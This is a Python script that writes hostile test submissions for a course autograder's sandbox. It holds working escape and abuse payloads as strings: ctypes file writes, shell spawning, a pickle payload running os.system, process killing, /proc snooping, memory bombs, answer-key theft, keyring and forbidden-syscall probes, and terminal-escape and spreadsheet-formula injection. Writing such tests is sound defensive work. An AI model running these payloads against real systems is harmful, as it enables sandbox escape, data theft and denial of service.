"""Writes the grader's test submissions (real files, committed) for Lab 0.

Run from the repository root: `.venv/bin/python tests/grading_cases/make_cases.py`.
Each file is a student edition of Lab 0 with something done to it; the expected
outcome of each is asserted in tests/test_grading.py (and tests/test_isolation.py for the
attacks on the sandbox).

The attack cases follow the classes of issue 11: escaping the sandbox (files, processes,
daemons, the network, the grader's process), reading what a submission must not (the
environment, classmates, the answer key, the lab sources), exhausting the grader (memory,
time), and losing earned points (odd answers, odd files). Each is written to do no harm
if run outside the sandbox by mistake: it writes only the canary files named below and
signals only processes inside its own PID namespace.
"""
from __future__ import annotations

import json
import os
import unicodedata
from pathlib import Path

import nbformat

from survlab import labs
from underwatch import editions

HERE = Path(__file__).parent
ROOT = HERE.parents[1]
LAB = labs.get("getting-started")


def student_edition() -> nbformat.NotebookNode:
    return editions.make_edition(editions.read_lab_source(ROOT / "notebooks" / "00-getting-started.md"), student=True)


def answered(values: dict) -> nbformat.NotebookNode:
    nb = student_edition()
    for cell in nb.cells:
        for name, value in values.items():
            cell.source = cell.source.replace(editions.BLANK_LINE.format(name=name), f"{name} = {value}")
    return nb


SOLUTION = {  # what a student would type
    "people_per_camera": "city.population / city.cameras",
    "camera_gb_per_day": "city.bitrate_mbps * 1e6 / 8 * 86_400 / 1e9",
    "comparisons_per_day": "city.searches_per_day * city.gallery",
    "orders_apart": "round(math.log10(city.cameras * camera_gb_per_day / city.phone_storage_gb))",
}
WRONG = {"people_per_camera": "city.cameras / city.population", "camera_gb_per_day": "172.8",
         "comparisons_per_day": "city.searches_per_day + city.gallery", "orders_apart": "1"}


def with_cell(nb, source: str, at: int = 1) -> nbformat.NotebookNode:
    nb.cells.insert(at, nbformat.v4.new_code_cell(source))
    return nb


def solved() -> nbformat.NotebookNode:
    """The lab answered right, with the import the last answer needs."""
    return with_cell(answered(SOLUTION), "import math")


# Canaries, set up by the tests before a batch: none may change or leak.
CANARY_FILE = "/tmp/underwatch-canary-file.txt"  # a file outside every submission folder
CLASSMATE = "/tmp/underwatch-canary-classmate.ipynb"  # another student's submission, graded in the same batch
CANARY_ENV = "UNDERWATCH_GRADER_CANARY"  # a variable of the grader's environment
LISTEN_PORT = 29613  # a TCP listener on the grader's loopback, below the range bind(0) hands out (no kernel takes it)
LISTEN_UNIX = "/tmp/underwatch-canary.sock"  # a Unix socket listener on the grader's disk
DAEMON_MARKER = "underwatch-daemon-marker"  # in the command line of what a submission leaves behind

ESCAPE_FILES = f"""import ctypes, os, sqlite3
target = {CANARY_FILE!r}
attempts = []
def attempt(name, action):
    try:
        action()
        attempts.append(name)
    except Exception as err:
        attempts.append(f"{{name}} failed: {{type(err).__name__}}")
libc = ctypes.CDLL(None)
def by_ctypes():
    fd = libc.open(target.encode(), 0o1 | 0o1000)  # O_WRONLY | O_TRUNC, no audit event
    if fd < 0:
        raise OSError("libc open failed")
    libc.write(fd, b"escaped", 7)
attempt("ctypes", by_ctypes)
def by_dir_fd():
    folder = os.open(os.path.dirname(target), os.O_RDONLY)
    fd = os.open(os.path.basename(target), os.O_WRONLY | os.O_TRUNC, dir_fd=folder)
    os.write(fd, b"escaped")
attempt("dir_fd", by_dir_fd)
attempt("sqlite", lambda: sqlite3.connect(target).execute("create table t (x)"))
attempt("fifo", lambda: os.mkfifo("/tmp/underwatch-canary-fifo"))
attempt("classmate", lambda: open({CLASSMATE!r}, "w").write("{{}}"))
attempt("proc root", lambda: open("/proc/1/root" + target, "w").write("escaped"))
"""

ESCAPE_PROCESSES = f"""import ctypes, os, subprocess, _posixsubprocess
command = "echo escaped > {CANARY_FILE}"
for run in (lambda: ctypes.CDLL(None).system(command.encode()),
            lambda: subprocess.run(["/bin/sh", "-c", command], timeout=5),
            lambda: os.posix_spawn("/bin/sh", ["sh", "-c", command], {{}}),
            lambda: _posixsubprocess.fork_exec(["/bin/sh", "-c", command], [b"/bin/sh"], True, (), None, None,
                                               -1, -1, -1, -1, -1, -1, -1, -1, False, False, False, None, None,
                                               None, -1, None, False)):
    try:
        run()
    except Exception:
        pass
"""

LEAVES_A_DAEMON = f"""import os, subprocess, sys
# Left running after the notebook ends, if it could be: a new session, and a double fork.
subprocess.Popen(["/bin/sh", "-c", "sleep 60 # {DAEMON_MARKER}"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sh", ["sh", "-c", "sleep 60 # {DAEMON_MARKER}"])
    os._exit(0)
"""

SNOOPS = f"""import os, glob
found = []
own = os.path.realpath(os.getcwd())
for name, value in os.environ.items():
    if {CANARY_ENV!r} in name:
        found.append("environment " + name)
for pid in os.listdir("/proc") if os.path.isdir("/proc") else []:
    for part in ("environ", "cmdline", "cwd"):
        try:
            path = f"/proc/{{pid}}/{{part}}"
            text = os.readlink(path) if part == "cwd" else open(path, "rb").read().decode(errors="replace")
            if {CANARY_ENV!r} in text or ".ipynb" in text or (part == "cwd" and text != own and pid != "self"):
                found.append(path)
        except OSError:
            pass
skip = ("/usr", "/proc", "/sys", "/dev", os.path.realpath(os.sys.base_prefix))
for folder, subfolders, files in os.walk("/"):
    if folder.startswith(skip) or "site-packages" in folder:  # the Python environment is there on purpose
        subfolders[:] = []
        continue
    for name in files:
        path = os.path.join(folder, name)
        if name.endswith(".ipynb") and not path.startswith(own):
            found.append(path)
        if name in ("grades.csv", "00-getting-started.md") or "answers" in path.split(os.sep):
            found.append(path)
    if len(found) > 20:
        break
if found:
    raise RuntimeError("FOUND: " + ", ".join(found[:5]))
"""

NETWORK = f"""import socket
reached = []
def attempt(name, action):
    try:
        action()
        reached.append(name)
    except OSError:
        pass
def tcp():
    with socket.create_connection(("127.0.0.1", {LISTEN_PORT}), timeout=2) as s:
        s.sendall(b"stolen answers")
attempt("tcp", tcp)
attempt("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"stolen", ("127.0.0.1", {LISTEN_PORT})))
def unix(address):
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(2)
    s.connect(address)
    s.sendall(b"stolen answers")
attempt("unix", lambda: unix({LISTEN_UNIX!r}))
attempt("abstract", lambda: unix("\\0underwatch-canary"))
attempt("dns", lambda: socket.getaddrinfo("example.org", 80))
if reached:
    raise RuntimeError("REACHED: " + ", ".join(reached))
"""

PICKLES_THE_SERVER = """import os, pickle, stat, socket
class Payload:
    def __reduce__(self):
        return (os.system, ("echo escaped > /tmp/underwatch-canary-file.txt",))
data = pickle.dumps(Payload())
for fd in range(0, 1024):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            os.write(fd, len(data).to_bytes(4, "big") + data)
    except OSError:
        pass
for name in ("\\0multiprocessing-forkserver", "\\0pymp-forkserver"):
    try:
        s = socket.socket(socket.AF_UNIX)
        s.connect(name)
        s.sendall(data)
    except OSError:
        pass
"""

# Signals only what it can see: inside the sandbox, its own PID namespace, where it is PID 1.
# Everything past its parent is sent only when it is PID 1, so that this notebook run by
# mistake without a sandbox harms nothing but its own grader.
KILLS_THE_GRADER = """import ctypes, os, signal
libc = ctypes.CDLL(None)
targets = [os.getppid(), 0]  # its parent (the grader's side), its process group
if os.getpid() == 1:
    targets += [int(p) for p in os.listdir("/proc") if p.isdigit()] if os.path.isdir("/proc") else []
    targets.append(-1)  # every process it may signal
for pid in targets:
    if pid == os.getpid() or (pid == 0 and os.getpid() != 1):
        continue
    try:
        fd = libc.syscall(434, pid, 0) if pid > 0 else -1  # pidfd_open
        if fd >= 0:
            libc.syscall(424, fd, signal.SIGKILL, None, 0)  # pidfd_send_signal
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
"""

HANGS_THE_BATCH = """import os, signal, time
# Read the grader's pipes through /proc, then hang with the time-limit signal blocked.
for pid in os.listdir("/proc") if os.path.isdir("/proc") else []:
    try:
        for fd in os.listdir(f"/proc/{pid}/fd"):
            open(f"/proc/{pid}/fd/{fd}", "rb").read(1)
    except OSError:
        pass
signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM, signal.SIGTERM, signal.SIGINT})
while True:
    time.sleep(1)
"""

MMAP_BOMB = """import mmap, os
# Memory the old address-space-free cap did not see: shared mappings of a memfd.
fd = os.memfd_create("hoard")
os.ftruncate(fd, 8 << 30)
hoard = mmap.mmap(fd, 8 << 30)
for i in range(0, 8 << 30, 1 << 20):
    hoard[i] = 1
"""

ANON_MMAP_BOMB = """import mmap
hoard = mmap.mmap(-1, 8 << 30)
for i in range(0, 8 << 30, 1 << 20):
    hoard[i] = 1
"""

TMPFS_BOMB = """chunk = b"x" * (16 << 20)
with open("/tmp/hoard", "wb") as f:
    for _ in range(512):
        f.write(chunk)
"""

MEMFD_WRITE_BOMB = """import os
# Memory with no mapping at all: writes into memfds (counted by the cgroup only).
chunk = b"x" * (64 << 20)
hoards = []
for _ in range(64):
    fd = os.memfd_create("hoard")
    hoards.append(fd)
    for _ in range(12):
        try:
            os.write(fd, chunk)
        except OSError:
            break
"""

STEALS_EXPECTED = """from survlab import labs
lab = labs.get("getting-started")
camera_gb_per_day = lab.exercise("camera_gb_per_day").expected()
"""
STEALS_KEY = """import survlab.answers.getting_started as key
comparisons_per_day = key.comparisons_per_day()
"""
STEALS_SOURCES = """import glob, json, os, re
# The lab's source and the instructor edition, wherever the repository might be.
for pattern in ("/work/main/notebooks/00-getting-started.md", "../../notebooks/00-getting-started.md",
                "/work/main/_build/editions/instructor/00-getting-started.ipynb", "/*/*/notebooks/00-*",
                "/home/**/00-getting-started*", "/tmp/**/00-getting-started*", "/root/*/notebooks/00-*"):
    for path in glob.glob(pattern, recursive=True):
        text = open(path).read()
        orders_apart = int(re.search(r"orders_apart = (.*)", text).group(1))
orders_apart
"""

# A classmate's code, graded earlier in the same lane, must be nowhere in a later child's memory.
# The canary is long enough (over 512 bytes with its padding) to live in the C heap, as cell
# sources do; the scanner looks for it by pattern, so that its own text never matches.
MEMORY_CANARY = "UWMEMCANARY" + "5e1f0c2a9b7d3e46"
CLASSMATE_WITH_A_CANARY = f"""# my working notes: {MEMORY_CANARY} {'.' * 600}
notes = {MEMORY_CANARY!r} + {'#' * 600!r}
"""
SCANS_MEMORY = """import ctypes, os, re
# Every readable page of its own memory (from /proc/self/maps where there is a /proc; else by
# probing pages around its heap and its maps with write(2), which fails on unmapped memory).
libc = ctypes.CDLL(None, use_errno=True)
libc.write.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t]
libc.sbrk.restype, libc.sbrk.argtypes = ctypes.c_void_p, [ctypes.c_long]
pattern = re.compile(b"UWMEM" + b"CANARY[0-9a-f]{16}")
found, ranges, PAGE = set(), [], 4096
try:
    with open("/proc/self/maps") as f:
        for line in f:
            span, perms = line.split()[:2]
            if perms.startswith("r") and "[v" not in line:
                lo, hi = (int(x, 16) for x in span.split("-"))
                ranges.append((lo, hi))
    with open("/proc/self/mem", "rb", buffering=0) as mem:
        for lo, hi in ranges:
            for start in range(lo, hi, 16 << 20):
                try:
                    mem.seek(start)
                    found.update(pattern.findall(mem.read(min(16 << 20, hi - start))))
                except (OSError, ValueError, OverflowError):
                    break
except OSError:
    r, w = os.pipe()
    def readable(address):
        if libc.write(w, address, 1) == 1:
            os.read(r, 1)
            return True
        return False
    keep = bytearray(1 << 20)
    for anchor in (libc.sbrk(0), id(keep), id(ranges), id(re)):
        page = anchor & ~(PAGE - 1)
        start = None
        for address in range(page - (256 << 20), page + (256 << 20), PAGE):
            if readable(address):
                start = address if start is None else start
                continue
            if start is not None:
                ranges.append((start, address))
                start = None
    for lo, hi in sorted(set(ranges)):
        for start in range(lo, hi, 16 << 20):
            found.update(pattern.findall(ctypes.string_at(start, min(16 << 20, hi - start))))
if found:
    raise RuntimeError("FOUND-MEMORY: " + b", ".join(sorted(found)).decode())
"""

STEALS_THE_KEY_FILES = """import os, re, sys
# The answer key's files wherever the environment put them (an installed wheel puts them in
# site-packages), read as text rather than imported.
found = []
for place in set(sys.path) | {"/opt", "/usr/lib/python3/dist-packages"}:
    for folder, subfolders, files in os.walk(place or "."):
        if folder.endswith(os.path.join("survlab", "answers")):
            found += [os.path.join(folder, f) for f in files if f.endswith(".py") and f != "__init__.py"]
        subfolders[:] = [s for s in subfolders if s in ("survlab", "answers", "site-packages", "lib", "env")
                         or s.startswith("python")]
for path in found:
    match = re.search(r"orders_apart.*?return (\\d+)", open(path).read(), re.S)
    if match:
        orders_apart = int(match.group(1))
if found:
    raise RuntimeError("KEY FILES: " + ", ".join(found[:3]))
"""

# Reports from inside are data: a forged "sandbox error" (with the exit code our own process
# uses for one) must not stop the batch, and its terminal escapes must reach nothing raw.
FORGES_A_SANDBOX_ERROR = """import json, os
os.write(3, json.dumps({"sandbox_error": "\\x1b[2J\\x1b]0;pwned\\x07 stop the batch \\u202e"}).encode())
os._exit(126)
"""
ESCAPES_IN_ERRORS = """raise ValueError("\\x1b[2J\\x1b]8;;http://example.org\\x07click\\x1b]8;;\\x07 \\u202egnp.exe \\x9b31m")"""

# The kernel keyring: nothing of the grader's (a key the tests put in its session keyring) may
# be read, and nothing added where the grader or a classmate would see it.
USES_THE_KEYRING = """import ctypes, os, platform
numbers = {"x86_64": (248, 249, 250), "aarch64": (217, 218, 219)}[platform.machine()]
ADD_KEY, REQUEST_KEY, KEYCTL = numbers
libc = ctypes.CDLL(None, use_errno=True)
reached = []
buffer = ctypes.create_string_buffer(4096)
for keyring in (-3, -4, -5):  # session, user, user-session keyrings
    if libc.syscall(KEYCTL, 11, keyring, buffer, 4096) >= 0:  # KEYCTL_READ: the key ids in it
        reached.append(f"read {keyring}")
    if libc.syscall(ADD_KEY, b"user", b"underwatch-planted", b"x", 1, keyring) >= 0:
        reached.append(f"added to {keyring}")
if libc.syscall(REQUEST_KEY, b"user", b"underwatch-test-canary", None, 0) >= 0:
    reached.append("found the grader's key")
if libc.syscall(KEYCTL, 1, None) >= 0:  # KEYCTL_JOIN_SESSION_KEYRING
    reached.append("joined a keyring")
if reached:
    raise RuntimeError("KEYRING: " + ", ".join(reached))
"""

# System calls a notebook never needs; each must fail (seccomp), so that a kernel bug behind
# one of them is out of reach.
FORBIDDEN_CALLS = """import ctypes, os, platform, socket
libc = ctypes.CDLL(None, use_errno=True)
x86 = platform.machine() == "x86_64"
calls = {"unshare(user+net)": (272 if x86 else 97, 0x10000000 | 0x40000000),
         "clone(new user ns)": (56 if x86 else 220, 0x10000000 | 17, 0, 0, 0, 0),
         "io_uring_setup": (425, 8, ctypes.create_string_buffer(120)),
         "bpf": (321 if x86 else 280, 0, None, 0),
         "perf_event_open": (298 if x86 else 241, None, 0, -1, -1, 0),
         "userfaultfd": (323 if x86 else 282, 0),
         "ptrace(TRACEME)": (101 if x86 else 117, 0, 0, 0, 0),
         "setns": (308 if x86 else 268, 0, 0),
         "keyctl": (250 if x86 else 219, 0, -3, 0)}
allowed = []
for name, args in calls.items():
    result = libc.syscall(*args)
    if result >= 0:
        allowed.append(name)
        if name.startswith("clone") and result == 0:
            os._exit(0)  # the child, if there was one
for name, family, kind, proto in (("netlink netfilter", 16, socket.SOCK_RAW, 12), ("packet", 17, socket.SOCK_RAW, 0)):
    try:
        socket.socket(family, kind, proto).close()
        allowed.append(name)
    except OSError:
        pass
if allowed:
    raise RuntimeError("ALLOWED: " + ", ".join(allowed))
"""

# One submission must not slow the others: four processes busy for 6 s, under one CPU's quota.
HOGS_THE_CPU = """import os, time
end = time.monotonic() + 6
children = []
for _ in range(4):
    pid = os.fork()
    if pid == 0:
        while time.monotonic() < end:
            pass
        os._exit(0)
    children.append(pid)
for pid in children:
    os.waitpid(pid, 0)
"""


def hostile_folder(folder: Path, elsewhere: Path) -> dict[str, str]:
    """A submissions folder as a hostile class leaves it (made at test time: git keeps no FIFO).
    Returns each entry's name and the outcome it must get (a prefix of its row's reason, or
    'graded' for full marks). ``elsewhere`` is outside the folder: a classmate's file there,
    and the instructor's edition."""
    folder.mkdir(parents=True, exist_ok=True)
    elsewhere.mkdir(parents=True, exist_ok=True)
    nbformat.write(solved(), elsewhere / "instructor-edition.ipynb")
    nbformat.write(solved(), folder / "victim.ipynb")
    nbformat.write(solved(), folder / "--out=victim.ipynb")  # an option, were the shell to expand *.ipynb
    nbformat.write(solved(), folder / "-h.ipynb")
    (folder / "link_to_classmate.ipynb").symlink_to(folder / "victim.ipynb")
    (folder / "link_to_instructor.ipynb").symlink_to(elsewhere / "instructor-edition.ipynb")
    (folder / "dangling.ipynb").symlink_to(elsewhere / "gone.ipynb")
    os.mkfifo(folder / "fifo.ipynb")
    (folder / "folder.ipynb").mkdir()
    nfc, nfd = unicodedata.normalize("NFC", "Jos\u00e9"), unicodedata.normalize("NFD", "Jos\u00e9")
    nbformat.write(solved(), folder / f"{nfc}.ipynb")
    nbformat.write(answered(WRONG), folder / f"{nfd}.ipynb")
    not_regular = "cannot read the file: it is not a regular file"
    return {"victim": "graded", "out_victim": "graded", "h": "graded",
            "link_to_classmate": not_regular + " (a symbolic link)",
            "link_to_instructor": not_regular + " (a symbolic link)",
            "dangling": not_regular + " (a symbolic link)", "fifo": not_regular + " (a FIFO)",
            "folder": not_regular + " (a folder)", nfc: "2 files map to this student id"}


def large_legitimate() -> dict[str, nbformat.NotebookNode]:
    """Honest notebooks far larger than a lab: a 300 kB code cell, and 10,000 cells."""
    big_cell = with_cell(solved(), "table = [\n" + "    (1, 2.5, 'camera'),\n" * 15_000 + "]\n", 2)
    many = solved()
    many.cells[2:2] = [nbformat.v4.new_code_cell(f"x_{i} = {i}") for i in range(5_000)]
    many.cells[2:2] = [nbformat.v4.new_markdown_cell(f"note {i}") for i in range(5_000 - len(solved().cells))]
    return {"big_cell": big_cell, "many_cells": many}


def crafted_to_cost() -> dict[str, bytes]:
    """Files crafted to cost the grader's own process time and memory before any limit (each
    must be refused or read within seconds and 200 MB)."""
    cell = b'{"cell_type":"code","metadata":{},"source":"","outputs":[],"execution_count":null}'
    floats = b"[" + b",".join([b"1.5"] * 6_000_000) + b"]"
    attach = b'{"cell_type":"markdown","metadata":{},"source":"","attachments":{"a.png":{"image/png":"' + \
             b"A" * 100 + b'"}}}'
    v3 = json.dumps({"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": [{"cells": [
        {"cell_type": "code", "input": "x = 1", "language": "python", "outputs": [], "metadata": {}}] * 19_000}]})
    dup = json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [
        {"id": "same", "cell_type": "code", "source": "x = 1", "metadata": {}, "outputs": [], "execution_count": None}
        ] * 19_000})
    return {
        "cells_300k": b'{"nbformat":4,"nbformat_minor":5,"metadata":{},"cells":[' + b",".join([cell] * 300_000) + b"]}",
        "floats_6m": b'{"nbformat":4,"nbformat_minor":5,"metadata":{"x":' + floats + b'},"cells":[]}',
        "attachments_100k": b'{"nbformat":4,"nbformat_minor":5,"metadata":{},"cells":[' + b",".join([attach] * 100_000) + b"]}",
        "format_3_19k_cells": v3.encode(),
        "duplicate_ids_19k": dup.encode(),
    }


ODD_ANSWERS = {
    "people_per_camera": "city.population / city.cameras",
    "camera_gb_per_day": "10**400",
    "comparisons_per_day": "type('Evil', (float,), {'__float__': lambda self: 1 / 0})(3.0)",
    "orders_apart": "functools.reduce(lambda inner, _: [inner], range(3000), 3)",
}


def thief(cell: str) -> nbformat.NotebookNode:
    """A student edition with one honest answer and a cell that takes another from the key."""
    nb = answered({"people_per_camera": SOLUTION["people_per_camera"]})
    return with_cell(nb, cell, 2)


def attack_cases() -> dict[str, nbformat.NotebookNode]:
    """The attacks on the sandbox and the answer key (outcomes in tests/test_isolation.py)."""
    odd = with_cell(answered(ODD_ANSWERS), "import functools")
    v3 = nbformat.convert(solved(), 3)
    odd_metadata = solved()
    odd_metadata.metadata["survlab"] = "getting-started"
    odd_types = solved()
    odd_types.metadata["survlab"] = {"lab": 5, "version": ["0.2"]}
    old_version = solved()
    old_version.metadata["survlab"]["version"] = "=0.0.1+HYPERLINK(1)"
    formula = with_cell(solved(), "raise ValueError('=HYPERLINK(\"http://example.org\",\"open me\")')", 2)
    return {
        "escapes_by_files": with_cell(solved(), ESCAPE_FILES, 2),
        "escapes_by_processes": with_cell(solved(), ESCAPE_PROCESSES, 2),
        "leaves_a_daemon": with_cell(solved(), LEAVES_A_DAEMON, 2),
        "snoops": with_cell(solved(), SNOOPS, 2),
        "uses_the_network": with_cell(solved(), NETWORK, 2),
        "pickles_the_server": with_cell(solved(), PICKLES_THE_SERVER, 2),
        "kills_the_grader": with_cell(solved(), KILLS_THE_GRADER, 2),
        "hangs_the_batch": with_cell(solved(), HANGS_THE_BATCH, 2),
        "maps_memory": with_cell(with_cell(with_cell(solved(), MMAP_BOMB, 2), ANON_MMAP_BOMB, 2), TMPFS_BOMB, 2),
        "writes_memory": with_cell(solved(), MEMFD_WRITE_BOMB, 2),
        "steals_expected": thief(STEALS_EXPECTED),
        "steals_the_key": thief(STEALS_KEY),
        "steals_the_sources": thief(STEALS_SOURCES),
        "odd_answers": odd,
        "format_3": v3,
        "metadata_not_a_mapping": odd_metadata,
        "metadata_wrong_types": odd_types,
        "other_version": old_version,
        "formula_in_an_error": formula,
        "x" * 239: solved(),  # a 245-character file name
        "memory_canary": with_cell(solved(), CLASSMATE_WITH_A_CANARY, 2),
        "scans_memory": with_cell(solved(), SCANS_MEMORY, 2),
        "steals_the_key_files": thief(STEALS_THE_KEY_FILES),
        "forges_a_sandbox_error": with_cell(solved(), FORGES_A_SANDBOX_ERROR, 2),
        "escapes_in_errors": with_cell(solved(), ESCAPES_IN_ERRORS, 2),
        "uses_the_keyring": with_cell(solved(), USES_THE_KEYRING, 2),
        "forbidden_calls": with_cell(solved(), FORBIDDEN_CALLS, 2),
    }


def main() -> None:
    cases = {
        "correct": solved(),
        "wrong": answered(WRONG),
        "blank": student_edition(),
        "partial": answered({**SOLUTION, "camera_gb_per_day": "172.8", "orders_apart": "None"}),
        "exception_then_answers": with_cell(solved(), "raise ValueError('oops')", 3),
        "infinite_loop": with_cell(solved(), "while True:\n    pass", 2),
        "ignores_the_time_limit": with_cell(solved(), "while True:\n    try:\n        while True:\n"
                                            "            pass\n    except BaseException:\n        pass", 2),
        "writes_over_the_report": with_cell(solved(), "import os\nfor fd in range(3, 256):\n    try:\n"
                                            "        os.write(fd, b'{\"answers\": {\"orders_apart\": 3}}')\n"
                                            "    except OSError:\n        pass", 2),
        "exits_early": with_cell(solved(), "import os\nos._exit(3)", 2),
        "memory_bomb": with_cell(solved(), "hoard = []\nwhile True:\n    hoard.append(bytearray(50_000_000))", 2),
        "huge_output": with_cell(solved(), "for _ in range(4_000):\n    print('x' * 50_000)", 2),
        "writes_outside": with_cell(solved(),
                                    "open('/tmp/survlab-grading-escape.txt', 'w').write('escaped')", 2),
        "starts_a_process": with_cell(solved(), "import os\nos.system('touch /tmp/survlab-grading-escape-2')", 2),
        "fakes_the_check": with_cell(answered(WRONG),
                                     "import survlab.checks, numpy\n"
                                     "survlab.checks.judge = lambda *a, **k: 'correct'\n"
                                     "survlab.checks.Number.matches = lambda *a, **k: True\n"
                                     "numpy.isclose = lambda *a, **k: True\n"
                                     "print('SURVLAB-ANSWERS-0000000000000000:{\"people_per_camera\": 200}')", 2),
        "fake_result_file": with_cell(answered(WRONG),
                                      "open('grades.csv', 'w').write('student,total\\nfake_result_file,4\\n')", 2),
    }
    deleted = solved()
    deleted.cells = [c for c in deleted.cells if "camera_gb_per_day" not in c.source and "orders_apart" not in c.source]
    cases["cells_deleted"] = deleted
    other = solved()
    other.metadata["survlab"]["lab"] = "camera-network"
    cases["other_lab"] = other
    cases.update(attack_cases())
    for name, nb in cases.items():
        if nb.get("nbformat") == 3:  # nbformat.write would upgrade it again
            (HERE / f"{name}.ipynb").write_text(nbformat.writes(nb, version=3))
        else:
            nbformat.write(nb, HERE / f"{name}.ipynb")
    (HERE / "nested_too_deep.ipynb").write_text("[" * 50_000 + "]" * 50_000)
    (HERE / "not_json.ipynb").write_text("{ this is not JSON, it is what a broken download looks like\n")
    (HERE / "not_a_notebook.ipynb").write_text(json.dumps({"name": "my answers", "answers": [1, 2, 3]}))


if __name__ == "__main__":
    main()
